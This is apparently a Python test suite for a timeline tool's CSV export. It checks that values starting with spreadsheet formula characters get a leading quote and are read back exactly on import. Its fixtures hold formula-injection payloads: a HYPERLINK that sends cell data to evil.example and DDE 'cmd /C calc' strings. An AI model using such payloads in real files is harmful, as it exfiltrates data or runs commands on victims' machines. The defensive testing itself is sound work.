"""CSV exports neutralise spreadsheet formulas, and importing the export gives the text back."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.builders import event_record
from timeline.core.model import Problem, parse_event
from timeline.files.formats import (
    ReadResult,
    RowProblem,
    read_events,
    rejected_rows_csv,
    write_events,
)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    """Every data cell of a CSV text, as a spreadsheet would receive it."""
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def export(events) -> str:
    buffer = io.StringIO()
    write_events(events, buffer, "csv")
    return buffer.getvalue()


def reimport(tmp_path, text: str):
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8", newline="")
    result = read_events(path)
    assert result.problems == []
    return result.events


HOSTILE = parse_event(event_record(
    id="hostile",
    title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
    summary="+cmd|' /C calc'!A0",
    countries=["PRK", "RUS"],
    actor="PRK",
    tags=["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
    sources=[{"publisher": "-2+3+cmd|' /C calc'!A0", "url": "https://news.example.org/a",
              "quote": "=1+1"}],
    cameo="057",
    goldstein=-6.5,
))


def test_formula_cells_are_written_with_a_leading_quote(tmp_path):
    text = export([HOSTILE])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["summary"] == "'+cmd|' /C calc'!A0"
    assert row["tags"] == "'@SUM(1+1)*cmd|' /C calc'!A0;-2+3"
    assert row["goldstein"] == "-6.5"  # a plain number stays a number
    # The sources cell is JSON (it starts with "["), so formulas inside it are inert.
    assert row["sources"].startswith("[")
    assert not [cell for cell in cells(text)
                if cell.startswith(FORMULA_START) and cell != "-6.5"]
    assert reimport(tmp_path, text) == [HOSTILE]


def test_text_that_already_starts_with_a_quote_round_trips(tmp_path):
    titles = ["'=x", "''+y", "'plain", "-", "-5", "'-5", "+1e3", "@", "a=b", "'"]
    events = [parse_event(event_record(id=f"e{n}", title=title))
              for n, title in enumerate(titles)]
    text = export(events)
    written = [row["title"] for row in csv.DictReader(io.StringIO(text))]
    assert written == ["''=x", "'''+y", "'plain", "'-", "-5", "''-5", "+1e3", "'@", "a=b", "'"]
    assert [event.title for event in reimport(tmp_path, text)] == titles


def test_a_hand_written_quote_before_a_formula_is_read_as_the_formula_text(tmp_path):
    path = tmp_path / "hand.csv"
    path.write_text("id,date,title,type,source_url\na,2024,'=1+1,talks,https://a.example/\n",
                    encoding="utf-8")
    assert [event.title for event in read_events(path).events] == ["=1+1"]


def test_the_rejected_rows_download_names_file_line_field_and_message(tmp_path):
    path = tmp_path / "hand.csv"
    path.write_text("id,date,title,type,source_url\na,=1+1,x,talks,https://a.example/\n",
                    encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(rejected_rows_csv(read_events(path)))))
    assert [{k: row[k] for k in ("file", "line", "field")} for row in rows] == [
        {"file": str(path), "line": "2", "field": "date"}]
    assert rows[0]["message"].startswith("'=1+1' is not a date written YYYY, YYYY-MM or")


def test_the_rejected_rows_download_neutralises_formulas():
    result = ReadResult(problems=[RowProblem("=HYPERLINK(1).csv", 3, Problem(
        field="title", message="@SUM(A1) is wrong"))])
    [row] = list(csv.reader(io.StringIO(rejected_rows_csv(result))))[1:]
    assert row == ["'=HYPERLINK(1).csv", "3", "title", "'@SUM(A1) is wrong"]


_PRINTABLE = st.characters(exclude_categories=("Cc", "Cs"))


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@1. a") | _PRINTABLE, min_size=1, max_size=12)
       .map(str.strip).filter(bool))
def test_any_title_is_exported_safe_and_read_back_exactly(title):
    event = parse_event(event_record(title=title, summary=title))
    text = export([event])
    row = next(csv.DictReader(io.StringIO(text)))
    for cell in (row["title"], row["summary"]):
        assert not cell.startswith(FORMULA_START) or _is_number(cell)
    assert next(csv.DictReader(io.StringIO(text))) == row
    restored = _read_text(text)
    assert restored.title == title and restored.summary == title


def _is_number(text: str) -> bool:
    """A plain decimal number, which a spreadsheet reads as a number, never a formula."""
    try:
        value = float(text)
    except ValueError:
        return False
    return text.isascii() and "_" not in text and value - value == 0  # not inf or nan


def _read_text(text: str):
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "one.csv"
        path.write_text(text, encoding="utf-8", newline="")
        [event] = read_events(path).events
        return event
